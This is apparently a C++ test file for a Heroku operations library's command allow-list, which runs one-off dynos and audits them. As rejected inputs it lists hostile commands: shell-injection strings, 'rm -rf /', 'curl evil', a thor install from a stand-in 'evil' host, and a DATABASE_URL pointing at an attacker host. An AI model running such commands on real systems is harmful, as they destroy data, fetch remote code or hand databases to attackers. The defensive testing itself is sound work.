#include "ops_world.hpp"

#include <nlohmann/json.hpp>

namespace ops = herokupp::ops;
using herokupp::ErrorKind;
using herokupp::Method;
using opstest::World;

TEST_CASE("check_command allows whole commands only, by default migrate and precompile") {
  ops::OneOffOptions o;
  for (char const* good :
       {"rake db:migrate", "rake assets:precompile", "rake  db:migrate", " rake db:migrate "}) {
    CAPTURE(good);
    CHECK(ops::check_command(good, o));
  }
  for (char const* bad :
       {// The issue's examples.
        "rake db:drop DISABLE_DATABASE_ENVIRONMENT_CHECK=1",
        "rake db:migrate DATABASE_URL=postgres://attacker:pw@evil.example.com:5432/x",
        "thor install http://evil/x.thor",
        // Variants: other tasks, extra words, options, settings anywhere.
        "rake db:drop", "rake", "thor jobs:flush", "rake db:migrate db:drop",
        "rake db:migrate db:seed", "rake db:migrate[1]", "rake db:migrate -e exit",
        "rake db:migrate --trace", "rake db:migrate --require=/tmp/x", "rake -e system",
        "rake --rakefile=/tmp/x db:migrate", "rake db:migrate RAILS_ENV=test",
        "rake assets:precompile RAILS_ENV=production", "rake db:migrate VERSION=0",
        "DATABASE_URL=postgres://evil rake db:migrate", "RAILS_ENV=test rake db:migrate",
        "env DATABASE_URL=x rake db:migrate", "bundle exec rake db:migrate", "bin/rake db:migrate",
        "/usr/bin/rake db:migrate", "RAKE db:migrate", "rake DB:MIGRATE", "rake db:migrateX",
        "rake db", "rake assets:precompile db:drop",
        // Shell syntax never reaches the allow-list.
        "rake db:migrate; rake db:drop", "rake db:migrate;rake db:drop",
        "rake db:migrate && rake db:drop", "rake db:migrate || curl evil", "rake db:migrate | sh",
        "rake db:migrate & curl evil", "rake `id`", "rake $(id)", "rake db:migrate > /etc/passwd",
        "rake \"db:migrate\"", "rake 'db:migrate'", "rake\tdb:migrate", "rake db:migrate\t",
        "rake db:migrate\ncurl evil", "rake db:migrate\r", "rake db:migrate #x", "rake ~/x", "",
        "   ", "bash", "rm -rf /"}) {
    CAPTURE(bad);
    auto r = ops::check_command(bad, o);
    REQUIRE_FALSE(r);
    CHECK(r.error().kind == ErrorKind::invalid_argument);
  }
  CHECK(ops::check_command("bash", o).error().message.find("\"bash\" is not an allowed command") !=
        std::string::npos);
  CHECK(ops::check_command("rake; curl evil", o).error().message.find("';'") != std::string::npos);
  // The refusal says which word, and never repeats a setting's value.
  auto setting = ops::check_command("rake db:migrate DATABASE_URL=postgres://u:Pw-9x@h/db", o);
  REQUIRE_FALSE(setting);
  CHECK(setting.error().message.find("DATABASE_URL=") != std::string::npos);
  CHECK(setting.error().message.find("Pw-9x") == std::string::npos);
  auto prefixed = ops::check_command("DATABASE_URL=postgres://u:Pw-9x@h/db rake db:migrate", o);
  REQUIRE_FALSE(prefixed);
  CHECK(prefixed.error().message.find("Pw-9x") == std::string::npos);
  CHECK(ops::check_command("rake db:migrate db:drop", o).error().message.find("db:drop") !=
        std::string::npos);
}

TEST_CASE("an allow-list entry says which extra words it takes") {
  ops::OneOffOptions o;
  o.allowed_commands = {"rake db:seed <VAR=value>", "thor jobs:flush <options>",
                        "rake test <words>", "bundle exec rake db:migrate"};
  o.migrate_command.clear();
  CHECK(ops::check_command("rake db:seed", o));
  CHECK(ops::check_command("rake db:seed SEED_COUNT=10", o));
  CHECK_FALSE(ops::check_command("rake db:seed db:drop", o));
  CHECK_FALSE(ops::check_command("rake db:seed -e exit", o));
  CHECK(ops::check_command("thor jobs:flush --all", o));
  CHECK_FALSE(ops::check_command("thor jobs:flush X=1", o));
  CHECK_FALSE(ops::check_command("thor jobs:flush now", o));
  CHECK(ops::check_command("rake test spec/models", o));
  CHECK_FALSE(ops::check_command("rake test -e exit", o));
  CHECK(ops::check_command("bundle exec rake db:migrate", o));
  CHECK_FALSE(ops::check_command("rake db:migrate", o));  // not listed, migrate cleared

  for (char const* bad : {"rake db:seed <everything>", "rake <options> db:seed", "<words>",
                          "rake db:seed; <words>", "", "rake\tdb:seed"}) {
    CAPTURE(bad);
    CHECK_FALSE(ops::check_allowed_entry(bad));
    ops::OneOffOptions broken;
    broken.allowed_commands = {bad};
    broken.migrate_command.clear();
    CHECK_FALSE(ops::check_command("rake db:seed", broken));
  }
  CHECK(ops::check_allowed_entry("rake db:seed <VAR=value> <options> <words>"));
}

TEST_CASE("the configured migrate command is allowed as a whole, not its first word") {
  ops::OneOffOptions o;
  o.migrate_command = "bin/rails db:migrate";
  CHECK(ops::check_command("bin/rails db:migrate", o));
  CHECK(ops::check_command("bin/rails   db:migrate", o));
  CHECK_FALSE(ops::check_command("bin/rails runner Foo.bar", o));
  CHECK_FALSE(ops::check_command("bin/rails db:migrate db:drop", o));
  CHECK(ops::check_command("rake db:migrate", o));  // the default entries stay

  ops::OneOffOptions only_thor;
  only_thor.allowed_commands = {"thor jobs:flush"};
  only_thor.migrate_command.clear();
  CHECK_FALSE(ops::check_command("rake db:migrate", only_thor));
  CHECK(ops::check_command("thor jobs:flush", only_thor));

  ops::OneOffOptions with_options;  // deprecated: every entry takes options
  with_options.allow_options = true;
  CHECK(ops::check_command("rake db:migrate --trace", with_options));
  CHECK_FALSE(ops::check_command("rake db:migrate --trace db:drop", with_options));
}

TEST_CASE("a policy names the allowed commands, and a session uses them") {
  auto p = ops::Policy::from_json(R"({"actors": {"sam": ["heroku-shop-staging"]},
                                      "commands": ["rake db:migrate", "thor jobs:flush"]})");
  REQUIRE(p);
  REQUIRE(p->commands());
  CHECK(p->commands()->size() == 2);
  CHECK_FALSE(ops::Policy::from_json(R"({"commands": ["rake db:seed <all>"]})"));
  CHECK_FALSE(ops::Policy::from_json(R"({"commands": ["rake; x"]})"));
  World w;
  ops::Session s{w.client(), p.value(), "sam", w.audit()};
  CHECK(s.run("shop-staging", "thor jobs:flush"));
  auto r = s.run("shop-staging", "rake assets:precompile");  // a default, not in this policy
  REQUIRE_FALSE(r);
  CHECK(r.error().kind == ErrorKind::invalid_argument);
  auto secret = s.run("shop-staging", "rake db:migrate DATABASE_URL=postgres://u:Pw-9x@h/db");
  REQUIRE_FALSE(secret);
  // The audit trail shows the setting's name, never its value.
  CHECK(w.records->back().arguments.at(0).second.find("Pw-9x") == std::string::npos);
  CHECK(w.records->back().arguments.at(0).second.find("DATABASE_URL=fp:") != std::string::npos);
  CHECK(w.transport->count(Method::post, "/apps/shop-staging/dynos") == 1);
}

TEST_CASE("run refuses before any request") {
  World w;
  for (char const* bad : {"bash", "rm -rf /", "rake; curl evil"}) {
    auto r = ops::run(w.app("shop-staging"), bad);
    REQUIRE_FALSE(r);
    CHECK(r.error().kind == ErrorKind::invalid_argument);
    w.capture(r);
  }
  CHECK(w.transport->count() == 0);
}

TEST_CASE("run starts a detached one-off dyno and opens its log session") {
  World w;
  auto r = ops::run(w.app("shop-staging"), "rake assets:precompile");
  REQUIRE(r);
  CHECK(r->dyno.name.rfind("run.", 0) == 0);
  CHECK(r->dyno.command == "rake assets:precompile");
  CHECK_FALSE(r->log_url.empty());
  CHECK_FALSE(r->finished);
  CHECK(w.transport->count(Method::post, "/apps/shop-staging/dynos") == 1);
  CHECK(w.transport->count(Method::post, "/apps/shop-staging/log-sessions") == 1);
  auto sent = w.transport->seen();
  auto body = nlohmann::json::parse(sent.at(0).body);
  CHECK(body["attach"] == false);
  CHECK(body["command"] == "rake assets:precompile");
  CHECK(body["time_to_live"] == 3600);
}

TEST_CASE("migrate runs the configured command and can wait until it has finished") {
  herokupp::sim::PlatformOptions p;
  p.one_off_duration = std::chrono::seconds(90);
  World w(p);
  ops::OneOffOptions o;
  o.wait.enabled = true;
  o.wait.interval = std::chrono::seconds(5);
  auto const start = w.clock->now();
  auto r = ops::migrate(w.app("shop-staging"), o);
  REQUIRE(r);
  CHECK(r->dyno.command == "rake db:migrate");
  CHECK(r->finished);
  CHECK(r->final_state == "complete");
  // Waited on the virtual clock: about the dyno's 90 seconds, instantly.
  auto waited = w.clock->now() - start;
  CHECK(waited >= std::chrono::seconds(90));
  CHECK(waited <= std::chrono::seconds(90) + o.wait.max_interval);
  CHECK(w.app_silent("shop-staging").dynos().info(r->dyno.name).error().kind ==
        ErrorKind::not_found);
}

TEST_CASE("long waits poll less and less often") {
  herokupp::sim::PlatformOptions p;
  p.one_off_duration = std::chrono::minutes(20);
  World w(p);
  ops::OneOffOptions o;
  o.wait.enabled = true;
  o.wait.timeout = std::chrono::minutes(30);
  auto r = ops::migrate(w.app("shop-staging"), o);
  REQUIRE(r);
  CHECK(r->finished);
  // 2s, 3s, 4.5s... capped at 30s: about 45 polls for 20 minutes, not 600.
  std::size_t const polls =
      w.transport->count(Method::get, "/apps/shop-staging/dynos/" + r->dyno.name);
  CHECK(polls > 10);
  CHECK(polls < 60);
}

TEST_CASE("waiting for a one-off dyno times out with Error{timeout}") {
  herokupp::sim::PlatformOptions p;
  p.one_off_duration = std::chrono::seconds(600);
  World w(p);
  ops::OneOffOptions o;
  o.wait.enabled = true;
  o.wait.timeout = std::chrono::seconds(30);
  auto r = ops::run(w.app("shop-staging"), "rake assets:precompile", o);
  REQUIRE_FALSE(r);
  CHECK(r.error().kind == ErrorKind::timeout);
  CHECK(r.error().message.find("run.") != std::string::npos);
  w.capture(r);

  ops::OneOffOptions none;
  none.migrate_command.clear();
  CHECK(ops::migrate(w.app("shop-staging"), none).error().kind == ErrorKind::invalid_argument);
}
